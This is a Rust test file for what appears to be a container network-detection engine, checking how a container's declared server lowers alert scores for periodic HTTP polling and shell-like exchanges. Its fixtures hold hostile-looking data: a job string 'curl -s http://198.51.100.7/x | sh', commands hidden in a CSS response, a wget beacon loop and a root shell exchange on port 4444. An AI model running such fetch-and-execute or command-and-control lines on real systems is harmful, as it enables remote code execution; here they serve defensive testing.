//! What is written down about a container excuses a little, and never what is said.

use std::borrow::Cow;

use engine::{Alert, Level};
use observation::{Fact, Grammar, HttpExchange, Side};

use crate::masks::{Who, container};
use crate::table::FAR;
use crate::talk::Talk;
use crate::world::{Box_, START_MS, World, at_ms};

const CSS: &[u8] = b"body{color:#222}\n";
const HIDDEN: &[u8] = b"body{color:#222}/* id; uname -a */\n";
const OUTPUT: &[u8] = b"uid=0(root) gid=0(root)\n";
const JOB: &[u8] = b"{\"id\":7,\"cmd\":\"curl -s http://198.51.100.7/x | sh\"}";

/// A workload whose own command is a loop for a shell with the address in it.
fn one_liner() -> Box_ {
    let line = format!("while :; do wget -qO- http://{FAR}/style.css; sleep 60; done");
    Box_ { command: vec!["sh".into(), "-c".into(), line], ..container(Who::Workload) }
}

/// A workload with its server in its environment.
fn agent() -> Box_ {
    Box_ { environment: vec![format!("SERVER=http://{FAR}")], ..container(Who::Workload) }
}

/// A run by hand that has been there for a day, and names its server.
fn left_behind() -> Box_ {
    Box_ {
        created_ms: START_MS - 86_400_000,
        ..Box_::throw_away(2, &format!("/opt/agent --server {FAR}"))
    }
}

/// Twenty requests, one in every minute.
fn polls(it: &Box_, asked: &'static [u8], answered: &'static [u8]) -> Vec<Alert> {
    let mut world = World::new();
    world.start(it);
    for number in 0..20_u16 {
        let at = START_MS + 2_000 + u64::from(number) * 60_000;
        let mut talk = Talk::open(it, 52_000 + number, (FAR, 80), at);
        world.socket(&talk, it.cgroup, it.pid);
        talk.speaks("http");
        talk.say(Side::Originator, 1, &"q".repeat(90), Grammar::Obeyed);
        talk.say(Side::Responder, 4, &"a".repeat(160), Grammar::Obeyed);
        talk.fact(Fact::Http(HttpExchange {
            flow: talk.flow,
            asked_at: at_ms(talk.now_ms),
            method: Cow::Borrowed(if asked.is_empty() { "GET" } else { "POST" }),
            host: Cow::Owned(FAR.to_string()),
            target: Cow::Borrowed("/style.css"),
            user_agent: Cow::Borrowed("Wget"),
            header_names: Cow::Borrowed("Host,User-Agent,Connection"),
            status: 200,
            version: 11,
            request_body_bytes: asked.len() as u64,
            request_head: Cow::Borrowed(asked),
            response_body_bytes: answered.len() as u64,
            response_head: Cow::Borrowed(answered),
            ..HttpExchange::default()
        }));
        world.talk(talk.end());
    }
    world.alerts()
}

fn level(alerts: &[Alert]) -> Level {
    alerts.iter().map(|alert| alert.level).max().unwrap_or(Level::Info)
}

/// What a destination's declaration subtracts in the sum.
fn excused_db(alerts: &[Alert]) -> i16 {
    let all = alerts.iter().flat_map(|alert| &alert.evidence);
    let of_it = all.filter(|term| term.family == engine::Family::Destination);
    of_it.map(|term| term.points_db).min().unwrap_or(0)
}

#[test]
fn a_client_that_is_written_into_its_own_command_does_not_declare_its_server() {
    let alerts = polls(&one_liner(), b"", HIDDEN);
    assert!(level(&alerts) >= Level::Medium, "{alerts:#?}");
    assert_eq!(excused_db(&alerts), -1, "{alerts:#?}");
    for named in [agent(), left_behind()] {
        let alerts = polls(&named, b"", HIDDEN);
        assert!(level(&alerts) >= Level::Medium, "{alerts:#?}");
    }
}

/// The separating fact is what comes back.
#[test]
fn the_same_loop_that_asks_for_health_or_a_style_sheet_is_low() {
    for answered in [CSS, b"ok\n", b"{\"status\":\"UP\"}", b"/* find the header below */\n"] {
        let alerts = polls(&one_liner(), b"", answered);
        assert!(level(&alerts) < Level::Medium, "{alerts:#?}");
        assert_eq!(excused_db(&alerts), -1, "a shell's line excuses little");
    }
}

#[test]
fn an_agent_with_its_server_in_the_environment_is_low_also_when_it_is_given_jobs() {
    for (asked, answered) in [(&b""[..], CSS), (b"{\"cpu\":7}", b"{}"), (b"", JOB)] {
        let alerts = polls(&agent(), asked, answered);
        assert!(level(&alerts) < Level::Medium, "{alerts:#?}");
        assert_eq!(excused_db(&alerts), -8, "it is declared in full");
    }
}

#[test]
fn no_declaration_excuses_orders_whose_output_goes_back() {
    for it in [agent(), one_liner(), left_behind()] {
        let alerts = polls(&it, OUTPUT, b"id\n");
        assert!(level(&alerts) >= Level::Medium, "{alerts:#?}");
        assert_eq!(excused_db(&alerts), -1, "{alerts:#?}");
    }
}

#[test]
fn a_run_by_hand_that_was_left_behind_excuses_itself_a_little_only() {
    let alerts = polls(&left_behind(), b"", CSS);
    assert_eq!((level(&alerts), excused_db(&alerts)), (Level::Low, -1), "{alerts:#?}");
    let mut kept = left_behind();
    kept.privilege.kept_running = true;
    assert_eq!(excused_db(&polls(&kept, b"", CSS)), -8);
}

#[test]
fn a_declared_far_end_with_a_shell_is_medium_and_without_one_it_is_low() {
    let talked = |answer: &'static str| {
        let mut world = World::new();
        let it = agent();
        world.start(&it);
        let mut talk = Talk::open(&it, 52_000, (FAR, 4444), START_MS + 900);
        world.socket(&talk, it.cgroup, it.pid);
        talk.far(400, "id\n").near(6, answer).wait(900);
        world.talk(talk.end());
        level(&world.alerts())
    };
    assert_eq!(talked("uid=0(root) gid=0(root)\n"), Level::Medium);
    assert!(talked("ready\n") < Level::Medium);
}
